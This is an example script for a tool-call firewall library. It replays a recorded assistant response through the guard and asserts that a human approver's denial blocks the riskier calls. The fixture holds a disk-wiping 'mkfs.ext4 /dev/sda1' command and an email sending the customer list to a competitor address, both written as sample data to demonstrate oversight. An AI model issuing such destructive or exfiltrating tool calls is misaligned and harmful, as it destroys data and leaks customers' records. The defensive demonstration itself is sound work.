"""Guard the `tool_use` blocks of an Anthropic Messages response.

Runs offline on a recorded response. With the SDK: `message = client.messages.create(...)`,
then `guard_anthropic(firewall, message)`; `guarded.reply(outputs)` is the one user message
of `tool_result` blocks the next request needs.

This example's approver denies: the escalated call does not run, and the model reads why.

    python examples/formats_anthropic.py
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from toolwall import ApprovalAnswer, ApprovalRequest, Callback, Caller, Firewall
from toolwall.integrations.formats import guard_anthropic

POLICY = Path(__file__).resolve().parent.parent / "toolwall.toml"

TOOLS: dict[str, Any] = {
    "fs.read": lambda path: f"(contents of {path})",
    "db.query": lambda sql, limit, debug=False: {"rows": 3, "limit": limit},
    "email.send": lambda to, subject, body, cc=None: {"sent_to": to},
    "shell.run": lambda command, cwd=None: "(never runs here)",
}


def deny(request: ApprovalRequest) -> ApprovalAnswer:
    print(f"  approver sees: {request.decision.message()}")
    return ApprovalAnswer(False, by="carol", note="we do not mail customer lists outside")


RESPONSE: dict[str, Any] = {
    "id": "msg_demo",
    "type": "message",
    "role": "assistant",
    "model": "claude-sonnet-4-5",
    "stop_reason": "tool_use",
    "content": [
        {"type": "text", "text": "I'll gather the data and send it."},
        {
            "type": "tool_use",
            "id": "toolu_read",
            "name": "fs.read",
            "input": {"path": "/srv/workspace/customers.csv"},
        },
        {
            "type": "tool_use",
            "id": "toolu_rows",
            "name": "db.query",
            "input": {"sql": "select * from customers", "limit": 250, "debug": True},
        },
        {
            "type": "tool_use",
            "id": "toolu_disk",
            "name": "shell.run",
            "input": {"command": "mkfs.ext4 /dev/sda1"},
        },
        {
            "type": "tool_use",
            "id": "toolu_mail",
            "name": "email.send",
            "input": {"to": ["buyer@competitor.test"], "subject": "list", "body": "attached"},
        },
    ],
}


def main() -> list[dict[str, Any]]:
    firewall = Firewall.from_config(POLICY, approver=Callback(deny))
    caller = Caller(sub="assistant", tools=("fs.*", "db.query", "email.*", "shell.run"))

    guarded = guard_anthropic(firewall, RESPONSE, caller=caller, session="demo-anthropic")
    for decision in guarded.decisions:
        print(f"{decision.action.value:<9} {decision.tool:<11} {decision.reason}")

    guarded = guarded.resolve()
    outputs = {call.key: TOOLS[call.tool](**call.args) for call in guarded.calls}
    (user_message,) = guarded.reply(outputs)

    print("\nnext user message:")
    print(json.dumps(user_message, indent=2))

    assert [c.key for c in guarded.calls] == ["toolu_read", "toolu_rows"]
    assert guarded.calls[1].args == {"sql": "select * from customers", "limit": 100}
    assert [r.key for r in guarded.refusals] == ["toolu_disk", "toolu_mail"]
    assert all(block.get("is_error") for block in user_message["content"][2:])
    return [user_message]


if __name__ == "__main__":
    main()
